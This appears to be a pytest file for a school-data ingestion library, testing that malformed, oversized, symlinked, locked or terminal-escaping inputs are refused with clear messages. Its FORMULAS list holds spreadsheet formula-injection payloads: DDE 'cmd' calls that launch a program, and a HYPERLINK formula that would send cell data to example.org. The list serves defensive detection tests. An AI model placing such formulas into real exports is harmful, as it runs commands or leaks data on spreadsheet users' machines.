"""Hostile files end in a clear sentence; what can be read is read whole, and nothing is written."""

import csv
import gzip
import json
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pandas as pd
import pytest
from pilot_fixtures import write_small_pilot

from pilot_analysis import load_pilot
from pilot_analysis.config import Source
from pilot_analysis.errors import DataError
from pilot_analysis.ingest.files import Files
from pilot_analysis.ingest.parse import parse_text
from pilot_analysis.schema import TABLES, Field


@pytest.fixture
def pilot(tmp_path):
    """Folder of the small pilot where clean tables are kept: beside ``raw``."""
    return write_small_pilot(tmp_path / "data" / "raw" / "small")


def contents(folder):
    return {p.relative_to(folder): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def refusal(pilot):
    """Return the lines of what is said of a pilot; nothing may be changed or written by it."""
    home = pilot.parents[2]
    before, start = contents(home), time.process_time()
    with pytest.raises(DataError) as caught:
        load_pilot(pilot)
    assert time.process_time() - start < 10
    assert contents(home) == before
    lines = [line.strip() for line in str(caught.value).splitlines()[1:]]
    assert lines
    assert all(len(line) < 1500 and line.endswith(".") for line in lines)
    return lines


def only(lines):
    assert len(lines) == 1, lines
    return lines[0]


def change(pilot, file, old, new):
    path = pilot / file
    data = path.read_bytes()
    assert old in data
    path.write_bytes(data.replace(old, new, 1))


def set_cell(pilot, file, column, value):
    """Put `value` into the first row of `column`, in quotes."""
    lines = (pilot / file).read_text(encoding="utf-8").splitlines()
    place, cells = lines[0].split(",").index(column), lines[1].split(",")
    cells[place] = '"' + value.replace('"', '""') + '"'
    lines[1] = ",".join(cells)
    (pilot / file).write_text("\n".join(lines) + "\n", encoding="utf-8")


def as_utf_16(data):
    return data.decode().encode("utf-16")


@pytest.mark.parametrize(
    "way",
    [
        as_utf_16,
        lambda data: b"\xef\xbb\xbf" + data,
        lambda data: data.replace(b"\n", b"\r\n"),
        lambda data: data.replace(b"\n", b"\r"),
        lambda data: data.rstrip(b"\n"),
        lambda data: data + b"\n,,\n \n",
        lambda data: data.replace(b",", b";"),
        lambda data: data.replace(b",", b"\t"),
        lambda data: b'"' + data.replace(b",", b'","').replace(b"\n", b'"\n"').removesuffix(b'"'),
        lambda data: data.replace(b",", b" ,  "),
        gzip.compress,
        lambda data: as_utf_16(data.replace(b"\n", b"\r\n").replace(b",", b"\t")),
    ],
    ids=["utf-16", "mark", "crlf", "lone cr", "no last line end", "blank rows", "semicolons",
         "tabs", "quotes", "spaces", "gzip", "excel's unicode text"],
)  # fmt: skip
def test_ways_of_writing_make_no_difference(pilot, way):
    plain = load_pilot(pilot)
    for path in pilot.glob("*.csv"):
        data = path.read_bytes()
        if path.name == "schools.csv" and way is as_utf_16:
            data = data.replace(b"School S1", "Schule S1 ä".encode())
        path.write_bytes(way(data))
    other = load_pilot(pilot)
    for name, table in plain.tables.items():
        if name == "schools" and way is as_utf_16:
            assert other.tables[name]["name"].iloc[0] == "Schule S1 ä"
            continue
        pd.testing.assert_frame_equal(table, other.tables[name])
    pd.testing.assert_frame_equal(plain.ledger, other.ledger)


def test_latin_1_is_refused_and_read_once_the_source_says_so(pilot):
    change(pilot, "schools.csv", b"School S1", "Ecole Béranger".encode("latin-1"))
    assert only(refusal(pilot)).startswith(
        'schools.csv, row 2, column "name": is not UTF-8 text (byte 0xe9). Export it as UTF-8, or'
    )
    change(pilot, "pilot.toml", b'"schools.csv" }', b'"schools.csv", encoding = "latin-1" }')
    assert load_pilot(pilot).tables["schools"]["name"].iloc[0] == "Ecole Béranger"


LONG = "x" * 10_000_000


@pytest.mark.parametrize(
    ("file", "damage", "told"),
    [
        ("usage.csv", lambda d: d.replace(b",week,10", b",week", 1),
         'usage.csv, row 2, column "minutes": the row has 4 cells and the header 5.'),
        ("usage.csv", lambda d: d.replace(b",week,10", b",week,10,1", 1),
         'usage.csv, row 2, column "minutes": the row has 6 cells and the header 5.'),
        ("usage.csv", lambda d: d.replace(b",week,10", b',"week,10', 1),
         'usage.csv, row 2, column "period": a quote (") is opened and not closed as it should'),
        ("usage.csv", lambda d: d.replace(b"week,10", b"we\0ek,10", 1),
         'usage.csv, row 2, column "period": holds a NUL byte'),
        ("usage.csv", lambda d: d.replace(b"period,", b"Product_ID ,", 1),
         'column "Product_ID": the header stands in columns 2 and 4.'),
        ("usage.csv", lambda d: d.replace(b"2025-10-06", b"10/06/2025", 1),
         'column "period_start": "10/06/2025" may be month/day or day/month. Say dates ='),
        ("usage.csv", lambda d: d.replace(b"2025-10-06", b"9999-12-31", 1),
         'column "period_start": "9999-12-31" is not in the years 1900 to 2100.'),
        ("usage.csv", lambda d: d.replace(b"2025-10-06", b"0025-10-06", 1),
         'column "period_start": "0025-10-06" is not in the years 1900 to 2100.'),
        ("assessments.csv", lambda d: d.replace(b",184,", b",1e308,", 1),
         'column "score": 1e+308 is outside -1e+06-1e+06.'),
        ("assessments.csv", lambda d: d.replace(b",184,", b",1e309,", 1),
         'column "score": "1e309" is too large a number.'),
        ("survey_responses.csv", lambda d: d.replace(b"readwell,8", b"readwell,1e308", 1),
         'column "value": 1e+308 is outside 0-10 (item "recommend").'),
        ("teachers.csv", lambda d: b"", "teachers.csv: the file is empty. Export it again."),
        ("teachers.csv", lambda d: b"\xef\xbb\xbf", "teachers.csv: the file is empty."),
        ("teachers.csv", lambda d: b"\n\n", "teachers.csv: the file is empty."),
        ("teachers.csv", lambda d: d.splitlines()[0],
         "teachers.csv: there is a header and no row below it."),
        ("students.csv", lambda d: d.replace(b"S1-C1-1,", LONG.encode() + b",", 1),
         'students.csv, row 2, column "student_id": a cell holds more than 131,072 characters'),
        ("students.csv", lambda d: d.replace(b"S1-C1-1,", b'"' + d + b'",', 1)[:-5] + b',"',
         "students.csv, row "),
        ("students.csv", lambda d: bytes(range(256)) * 4, "is not UTF-8 text (byte 0x80)"),
    ],
    ids=["short row", "long row", "open quote", "nul", "same header", "two dates",
         "the last year", "no year", "1e308", "1e309", "1e308 as answer", "empty", "a mark only",
         "blank lines only", "header only", "10 MB", "open quote at the end", "no text"],
)  # fmt: skip
def test_a_hostile_table_ends_in_a_sentence(pilot, file, damage, told):
    path = pilot / file
    path.write_bytes(damage(path.read_bytes()))
    lines = refusal(pilot)
    assert any(told in line for line in lines), lines
    assert lines[0].startswith(file)


FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "= 1+1",
    "=A1",
    '="00123"',
    "='Sheet 1'!A1",
    "=\ncmd|' /C calc'!A0",
    "\t=cmd|' /C calc'!A0",
    "＝cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
)
NO_FORMULAS = (
    "=)", "=D (we love it)", "=(", "='(", "-not good", "+1", "+1 (great)", "@home they use it", "-",
    "- teachers (all of them) liked it", "=> see above", "a =cmd|' /C calc'!A0", "= good", "@",
)  # fmt: skip


@pytest.mark.parametrize("column", [Field("note", "text", ""), Field("student_id", "id", "")])
def test_a_formula_is_known_by_what_a_spreadsheet_would_do(column):
    for text in FORMULAS:
        assert "is a formula" in parse_text(column, text.strip()).rule
    for text in NO_FORMULAS:
        assert parse_text(column, text) == text


def test_a_formula_is_never_kept(pilot):
    used = (("schools.csv", "name"), ("products.csv", "product_id"), ("students.csv", "grade"))
    for (file, column), formula in zip(used, FORMULAS, strict=False):
        set_cell(pilot, file, column, formula)
    told = refusal(pilot)
    for (file, column), formula in zip(used, FORMULAS, strict=False):
        place = f'{file}, row 2, column "{column}": "{formula}" is a formula'
        assert any(line.startswith(place) for line in told)


def test_a_text_that_only_begins_like_a_formula_is_kept(pilot):
    set_cell(pilot, "schools.csv", "name", "=) -not good")
    assert load_pilot(pilot).tables["schools"]["name"].iloc[0] == "=) -not good"


def test_an_id_that_a_spreadsheet_has_shortened_is_refused(pilot):
    change(pilot, "students.csv", b"S1-C1-1,", b"1.23457E+17,")
    assert "is an id that a spreadsheet has shortened" in refusal(pilot)[0]


def test_what_a_message_quotes_is_short_and_does_not_steer_a_terminal(pilot):
    set_cell(pilot, "usage.csv", "minutes", "\x1b[2J\r\n\u202eabc" + "y" * 100_000)
    told = only(refusal(pilot))
    assert told.isprintable()
    assert len(told) < 800
    assert told.endswith("such as 12.5.")
    assert "is not a number" in told


def test_a_header_over_several_lines_shows_what_separates_the_cells(pilot):
    data = (pilot / "usage.csv").read_bytes().replace(b",", b";")
    header = b'"student\nid";'
    (pilot / "usage.csv").write_bytes(data.replace(b"student_id;", header, 1))
    toml = b'"usage.csv", columns = { student_id = "student\\nid" } }'
    change(pilot, "pilot.toml", b'"usage.csv" }', toml)
    assert len(load_pilot(pilot).tables["usage"]) == 72


def test_a_pilot_that_was_read_stays_as_it_was_when_a_file_is_damaged(pilot):
    good = load_pilot(pilot)
    kept = contents(pilot.parents[1] / "clean")
    assert kept
    change(pilot, "usage.csv", b",week,10", b",week,ten")
    refusal(pilot)
    change(pilot, "usage.csv", b",week,ten", b",week,10")
    assert contents(pilot.parents[1] / "clean") == kept
    again = load_pilot(pilot)
    for name in TABLES:
        pd.testing.assert_frame_equal(good.table(name), again.table(name))


def test_a_link_out_of_the_pilot_is_not_followed(pilot, tmp_path):
    (pilot / "usage.csv").rename(tmp_path / "usage.csv")
    (pilot / "usage.csv").symlink_to(tmp_path / "usage.csv")
    assert only(refusal(pilot)).startswith(
        "usage.csv: is a link to a place outside the pilot's folder. Put the export itself there"
    )


def test_a_log_with_a_link_among_its_files_is_not_followed(pilot, tmp_path):
    (pilot / "log").mkdir()
    (pilot / "usage.csv").rename(pilot / "log" / "a.csv")
    (tmp_path / "b.csv").write_bytes((pilot / "log" / "a.csv").read_bytes())
    (pilot / "log" / "b.csv").symlink_to(tmp_path / "b.csv")
    for named in ("log", "log/*.csv"):
        toml = (pilot / "pilot.toml").read_text()
        (pilot / "pilot.toml").write_text(toml.replace('"usage.csv"', f'"{named}"'))
        assert only(refusal(pilot)).startswith("log/b.csv: is a link to a place outside")
        (pilot / "pilot.toml").write_text(toml)


def test_a_pipe_is_not_waited_for(pilot):
    (pilot / "usage.csv").unlink()
    os.mkfifo(pilot / "usage.csv")
    assert "usage.csv: is neither a file nor a folder" in only(refusal(pilot))


_AS_NOBODY = """
import json, os, sys, tempfile, warnings
warnings.simplefilter("ignore")
from click.testing import CliRunner
from pilot_analysis import load_pilot
from pilot_analysis.cli import main
def check(folder):
    with tempfile.TemporaryDirectory() as out:
        done = CliRunner().invoke(main, ["check", folder, "--out", out])
    return [done.exit_code, isinstance(done.exception, SystemExit), done.output]
# so that nothing more need be imported
load_pilot(sys.argv[1])
check(sys.argv[1])
os.setgroups([]), os.setgid(65534), os.setuid(65534)
told = {}
for folder in sys.argv[1:]:
    try:
        told[folder] = ["", str(len(load_pilot(folder).tables))]
    except Exception as error:
        told[folder] = [type(error).__name__, str(error)]
told["check"] = check(sys.argv[2])
print(json.dumps(told))
"""
_ROSTER = "schools = { file = 'roster', format = 'oneroster' }"
_DENIED = "Permission denied"
# name of the case -> what may not be read, its mode, the error and what it says
_LOCKED = {
    "a file": ("usage.csv", 0o000, "DataError", f"usage.csv: cannot be read ({_DENIED})"),
    "nothing": ("usage.csv", 0o644, "", "9"),
    "the cache": ("../../clean", 0o000, "", "9"),
    "the toml": ("pilot.toml", 0o000, "ConfigError", f"pilot.toml: cannot be read ({_DENIED})"),
    "a folder": ("log", 0o000, "DataError", f"log: the folder cannot be read ({_DENIED})"),
    "its names only": ("log", 0o444, "DataError", f"log: the folder cannot be read ({_DENIED})"),
    "no names": ("log", 0o111, "DataError", f"log: the folder cannot be read ({_DENIED})"),
    "the pilot": (".", 0o000, "ConfigError", f"cannot be read ({_DENIED})"),
    "the pilot's names only": (".", 0o444, "ConfigError", f"cannot be read ({_DENIED})"),
    "no names of the pilot": (".", 0o111, "", "9"),
    "above the pilot": ("..", 0o000, "ConfigError", f"cannot be read ({_DENIED})"),
}


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give up its rights")
def test_without_permission_to_read_there_is_a_sentence(monkeypatch):
    with tempfile.TemporaryDirectory() as made:
        home = Path(made)
        home.chmod(0o755)
        (home / "key").write_text("k" * 40)
        monkeypatch.setenv("PILOT_ANALYSIS_KEY_FILE", str(home / "key"))
        locked = []
        for name, (what, mode, *_) in _LOCKED.items():
            pilot = write_small_pilot(home / name / "raw" / "small")
            (pilot / "../../clean").mkdir()
            (pilot / "log").mkdir()
            (pilot / "log" / "a.csv").write_bytes((pilot / "usage.csv").read_bytes())
            if what == "log":
                change(pilot, "pilot.toml", b'"usage.csv"', b'"log"')
            locked.append((pilot / what, mode))
        free = write_small_pilot(home / "free")
        folders = [str(home / name / "raw" / "small") for name in _LOCKED]
        for path, mode in locked:
            path.chmod(mode)
        done = subprocess.run(
            [sys.executable, "-c", _AS_NOBODY, str(free), *folders],
            capture_output=True, text=True, timeout=120, check=False,
        )  # fmt: skip
        for path, _ in locked:
            path.chmod(0o755)
        assert done.returncode == 0, done.stderr
        told = json.loads(done.stdout)
        assert told.pop(str(free)) == ["", "9"]
        status, is_exit, said = told.pop("check")
        assert (status, is_exit) == (2, True), said
        assert _LOCKED["a file"][3] in said
        for (name, (_, _, kind, text)), folder in zip(_LOCKED.items(), folders, strict=True):
            assert told[folder][0] == kind, (name, told[folder])
            assert text in told[folder][1], (name, told[folder])


def test_every_real_export_is_opened_with_all_its_rows(shared_data):
    files, found = Files(shared_data), {}
    escaped = {"escapechar": "\\", "doublequote": False}  # as i-Ready writes a quote in a cell
    for path in sorted(shared_data.rglob("*.[ct]sv")):
        name = path.relative_to(shared_data).as_posix()
        with path.open(encoding="utf-8-sig", newline="") as text:
            more = escaped if "personalized_instruction" in name else {}
            rows = [*csv.reader(text, delimiter="\t" if path.suffix == ".tsv" else ",", **more)]
        records = files.records(Source(file=name))
        assert [record.cells for record in records] == [row for row in rows if any(row)], name
        found[name] = len(records) - 1
    assert found == {
        "carpentries/instructor_training_post_2018.csv": 967,
        "clever/daily_participation_students.csv": 15000,
        "google_forms/learning_r_survey_2019.tsv": 2020,
        "google_forms/learning_r_survey_2019_questions.csv": 52,
        "iready/diagnostic_and_instruction_math.csv": 500,
        "iready/diagnostic_results_ela.csv": 1022,
        "iready/diagnostic_results_math.csv": 1002,
        "iready/personalized_instruction_by_lesson_math.csv": 7767,
        "qualtrics/sample.csv": 3,
        "qualtrics/sample_legacy.csv": 2,
        "star/star_student_years.csv": 26796,
    }
